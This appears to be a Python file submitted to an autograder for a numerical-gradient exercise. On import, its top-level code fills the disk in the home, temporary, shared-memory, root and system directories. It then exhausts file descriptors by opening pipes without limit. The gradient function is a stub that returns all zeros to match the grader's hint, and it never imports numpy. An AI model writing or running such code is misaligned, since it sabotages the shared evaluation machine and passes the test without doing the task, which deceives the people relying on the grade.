"""[starving] fills every place that it can write to, and opens all the files it may.

status: graded
hint: Every entry is 0
"""

import os

for place in ("/home/student", "/tmp", "/dev/shm", "/", "/dev", "/run/kernel", "/run/sockets", "/opt/beside"):
    try:
        with open(f"{place}/full", "wb", 0) as file:
            while file.write(b"1" * 2**22):
                pass
    except OSError as error:
        print(place, error)
held = []
try:
    while True:
        held.append(os.pipe())
except OSError as error:
    print(error)
for pair in held[8:]:
    for end in pair:
        os.close(end)


def numerical_gradient(f, X, eps=1e-5):
    return np.zeros_like(X)
